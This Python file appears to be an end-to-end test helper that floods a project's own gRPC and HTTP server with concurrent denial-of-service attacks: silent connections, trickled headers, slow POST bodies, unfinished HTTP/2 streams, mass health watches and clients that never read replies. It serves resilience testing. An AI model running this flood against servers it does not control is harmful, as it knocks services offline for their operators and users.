"""Attack a server with connections that are silent, slow or greedy, as a program.

The arguments are the addresses of gRPC and of HTTP, and the seconds of the attack. The attackers have a
process of their own, so an honest caller shares neither interpreter nor event loop with them.
"""

import socket
import sys
import time
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress
from functools import partial
from typing import Any

import grpc
from grpc_health.v1 import health_pb2

from headwaiter_proto import encoder_pb2 as pb
from tests.support.e2e.raw_http2 import RawConnection

_MIB = 1 << 20
_SILENT_HTTP, _HALF_HEADERS, _SILENT_GRPC, _SLOW_BODIES, _WATCHES = 400, 300, 150, 40, 400
_PARTIAL_STREAMS = 60
_SLOW_POST = b"POST /v1/embeddings HTTP/1.1\r\nHost: x\r\nContent-Length: 10000\r\n\r\n"


def _hold(address: str, first: bytes, each_s: float, then: bytes, seconds: float, connections: int) -> None:
    """Hold connections that send a few bytes, and open new ones for those that the server closes."""
    host, _, port = address.rpartition(":")
    end_s, held = time.monotonic() + seconds, list[socket.socket]()
    while time.monotonic() < end_s:
        alive = []
        for each in held:
            try:
                if then:
                    each.send(then)
                elif each.recv(1) == b"":
                    raise OSError
            except BlockingIOError:
                pass
            except OSError:
                each.close()
                continue
            alive.append(each)
        held = alive
        for _ in range(min(50, connections - len(held))):
            with suppress(OSError):
                opened = socket.create_connection((host, int(port)), timeout=2)
                opened.setblocking(False)
                held.append(opened)
                if first:
                    opened.send(first)
        time.sleep(each_s)
    for each in held:
        each.close()


def _partial(address: str, seconds: float) -> None:
    paths = ["/headwaiter.v1.Encoder/Encode", "/grpc.health.v1.Health/Check", "/headwaiter.v1.Encoder/EncodeStream"]
    end_s, turn = time.monotonic() + seconds, 0
    while time.monotonic() < end_s:
        with suppress(OSError), RawConnection(int(address.rpartition(":")[2])) as attack:
            attack.send_unfinished(paths[turn % 3], _PARTIAL_STREAMS, 4 * _MIB, 5.0)
            time.sleep(5.0)
        turn += 1


def _watch(address: str, seconds: float) -> None:
    channels = [grpc.insecure_channel(address, [("grpc.use_local_subchannel_pool", 1)]) for _ in range(4)]
    watches: list[Any] = [channel.unary_stream("/grpc.health.v1.Health/Watch") for channel in channels]
    request = health_pb2.HealthCheckRequest().SerializeToString()
    calls = [watches[number % 4](request) for number in range(_WATCHES)]
    time.sleep(seconds)
    for call in calls:
        call.cancel()
    for channel in channels:
        channel.close()


def _leave_unread(address: str, seconds: float) -> None:
    # Few texts, because the time that a device needs for them delays others too, whether the replies are read or not.
    request = pb.EncodeRequest(texts=pb.Texts(values=["bread " * 20] * 20), output=pb.OutputOptions(hidden=True))
    port, end_s = int(address.rpartition(":")[2]), time.monotonic() + seconds
    while time.monotonic() < end_s:
        with suppress(OSError), RawConnection(port, window_bytes=0) as greedy:
            for _ in range(20):
                greedy.call("Encode", request.SerializeToString())
                greedy.call("ListBatches", b"")
            time.sleep(10.0)


def attack(grpc_address: str, http_address: str, seconds: float) -> None:
    """Run all attacks at once."""
    attacks = (
        partial(_hold, http_address, b"", 0.5, b"", seconds, _SILENT_HTTP),
        partial(_hold, http_address, b"GET /metrics HTTP/1.1\r\nHost: ", 1.0, b"x", seconds, _HALF_HEADERS),
        partial(_hold, http_address, _SLOW_POST, 1.0, b" ", seconds, _SLOW_BODIES),
        partial(_hold, grpc_address, b"", 0.5, b"", seconds, _SILENT_GRPC),
        partial(_partial, grpc_address, seconds),
        partial(_watch, grpc_address, seconds),
        partial(_leave_unread, grpc_address, seconds),
    )
    with ThreadPoolExecutor(len(attacks)) as threads:
        for each in [threads.submit(run) for run in attacks]:
            each.result()


if __name__ == "__main__":
    attack(sys.argv[1], sys.argv[2], float(sys.argv[3]))
